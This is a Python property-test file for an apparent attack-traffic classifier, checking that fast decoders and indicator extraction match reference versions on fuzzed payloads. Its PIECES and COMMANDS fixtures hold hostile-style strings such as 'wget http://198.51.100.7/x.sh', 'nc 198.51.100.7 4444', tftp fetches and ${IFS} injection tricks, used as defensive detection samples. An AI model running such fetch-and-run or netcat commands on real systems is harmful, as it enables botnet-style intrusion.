"""The fast decoding paths give exactly what the plain ones give (issue 14: distinct payloads).

Each property compares a fast path with a slow reference on inputs built from the
pieces that matter: escapes, ``%``, entities, ``${IFS}``, bytes that are not UTF-8
(0x85 and 0xA0 are white space as characters), broken and whole UTF-8 sequences, and
the letters of the interesting words.
"""

from __future__ import annotations

import html
import re
from urllib.parse import unquote as library_unquote

from hypothesis import given, settings
from hypothesis import strategies as st

from teiten.classify import decoding
from teiten.classify.classifier import classify
from teiten.classify.indicators import (
    _INTERESTING,
    extract_indicators,
    extract_indicators_from_bytes,
    might_interest,
)
from teiten.classify.telnet import commands_of

_HEX = re.compile(r"\\x([0-9A-Fa-f]{2})")
_OCT = re.compile(r"\\0?([0-3][0-7]{2})")
_IFS = re.compile(r"\$\{IFS[^}\s]{0,8}\}|\$IFS\$\d|\$IFS(?![A-Za-z0-9_])")


def reference_decode(text: str) -> str:
    """The decoder as it was before the fast paths (standard library steps, regex callbacks)."""
    text = text[: decoding.MAX_TEXT]
    for round_ in range(3):
        before = text
        if "&" in text:
            text = html.unescape(text)
        if round_ == 0 and "+" in text:
            text = text.replace("+", " ")
        if "%" in text:
            text = library_unquote(text, errors="replace")
        if "\\" in text:
            text = _HEX.sub(lambda m: chr(int(m[1], 16)), text)
            text = _OCT.sub(lambda m: chr(int(m[1], 8)), text)
        if "$" in text:
            text = _IFS.sub(" ", text)
        if text == before:
            break
    return text


PIECES = [
    b"\\", b"x", b"\\x", b"\\x4", b"\\x41", b"\\xe9", b"\\0", b"\\101", b"\\5c", b"0", b"1",
    b"7", b"a", b"F", b"g", b"%", b"%2", b"%25", b"%5C", b"%5c", b"%3A", b"%C3", b"%A9",
    b"%E2%82", b"%ED%B2%80", b"&", b"&#", b"&#x", b"&#92", b"&#92;", b"&#36;", b"&#x10FFFF;",
    b"&#1;", b"&#128;", b"&amp", b"&amp;", b"&lt", b"&ltx", b"&bsol;", b"&dollar;",
    b"&CounterClockwiseContourIntegral;", b"amp", b";", b"#", b"$", b"${IFS", b"${IFS}",
    b"$IFS", b"$IFS$9", b"}", b"\x85}", b"{", b"+", b" ", b"\t", b"\n", b"\r", b"\x00", b"\x85",
    b"\xa0", b"\x80", b"\xff", b"\xc3", b"\xa9", b"\xc3\xa9", b"\xe2\x82", b"\xe2\x82\xac",
    b"\xed\xb2\x80", b"\xf0\x9f\x98", b"\xf0\x9f\x98\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf",
    "ıİKſ".encode(), b"://", b"wget", b"WGET", b"curl", b"tftp", b"ftpget", b"nc", b"NC",
    b"netcat", b"http", b"198.51.100.7", b"/x.sh", b";", b"|", b"`", b"$(", b")",
]  # fmt: skip
payload_bytes = st.lists(st.sampled_from(PIECES) | st.binary(max_size=6), max_size=60).map(b"".join)
payload_text = payload_bytes.map(lambda b: b.decode("utf-8", "backslashreplace")) | st.text(
    max_size=200
)


@given(payload_text)
def test_unhex_is_the_regex(text: str) -> None:
    assert decoding.unhex(text) == _HEX.sub(lambda m: chr(int(m[1], 16)), text)


@given(payload_text)
def test_unquote_is_the_library(text: str) -> None:
    assert decoding.unquote(text) == library_unquote(text, errors="replace")


@given(payload_text)
def test_unescape_is_the_library(text: str) -> None:
    assert decoding.unescape(text) == html.unescape(text)


@settings(max_examples=300)
@given(payload_text)
def test_decode_is_the_reference(text: str) -> None:
    assert decoding.decode(text) == reference_decode(text)


@settings(max_examples=500)
@given(payload_bytes)
def test_escaped_form_decodes_like_the_spelled_form(data: bytes) -> None:
    spelled = data.decode("utf-8", "backslashreplace")
    assert decoding.decode_bytes(data) == reference_decode(spelled)
    assert decoding.byte_values(decoding.decode_escaped(data)) == reference_decode(spelled)


@settings(max_examples=50, deadline=None)
@given(payload_bytes, st.integers(-8, 8))
def test_long_bytes_are_cut_as_the_spelled_form_is(payload: bytes, shift: int) -> None:
    """Around :data:`MAX_BYTES` bytes the spelled form (four characters a byte here)
    reaches the cut: the payload sits across it."""
    data = b"\xe9" * max(0, decoding.MAX_BYTES + shift - len(payload) // 2) + payload
    assert decoding.decode_bytes(data) == reference_decode(data.decode("utf-8", "backslashreplace"))


@settings(max_examples=500)
@given(payload_bytes)
def test_indicators_from_bytes_are_those_from_text(data: bytes) -> None:
    text = data.decode("utf-8", "backslashreplace")
    assert extract_indicators_from_bytes(data) == extract_indicators(text)


@given(payload_text)
def test_might_interest_never_misses(text: str) -> None:
    decoded = decoding.decode(text)
    if _INTERESTING.search(decoded):
        assert might_interest(decoded)
    if _INTERESTING.search(text):
        assert might_interest(text)


def test_spelled_and_escaped_forms_differ_only_where_the_notes_say() -> None:
    assert decoding.decode_bytes(b"${IFS\x85}x") == "${IFS\x85}x"  # NEL is white space
    assert decoding.decode_bytes(b"${IFS\x86}x") == " x"
    assert decoding.decode_bytes(b"%C3\xa9%A9") == "\ufffd\xa9\ufffd"
    assert decoding.decode_bytes(b"&#92;\xab") == "\\\xab"
    assert extract_indicators_from_bytes(b"\xffwget${IFS}198.51.100.7/x.sh\xfe") == (
        extract_indicators("\\xffwget${IFS}198.51.100.7/x.sh\\xfe")
    )


COMMANDS = [
    b"root", b"admin", b"enable", b"sh", b"/bin/busybox ECCHI", b"nc 198.51.100.7 4444",
    b"wget http://198.51.100.7/x.sh", b"tftp -g -r m 198.51.100.7", b"cd /tmp; wget 198.51.100.7/a",
    b"\\x77get http://198.51.100.7/b", b"curl%20http://loader.example/c", b"\xffwget\xfe",
]  # fmt: skip
telnet_lines = st.lists(st.sampled_from(COMMANDS) | payload_bytes, max_size=6).map(
    lambda lines: b"\r\n".join(lines)
)


@settings(max_examples=300)
@given(telnet_lines, st.sampled_from([None, b"login: Password: # ", b"Password: Login incorrect"]))
def test_telnet_commands_read_from_bytes_give_the_text_indicators(
    data: bytes, server: bytes | None
) -> None:
    c = classify(data, dst_port=23, server_bytes=server)
    assert c.indicators == extract_indicators("\n".join(commands_of(c.logins)))
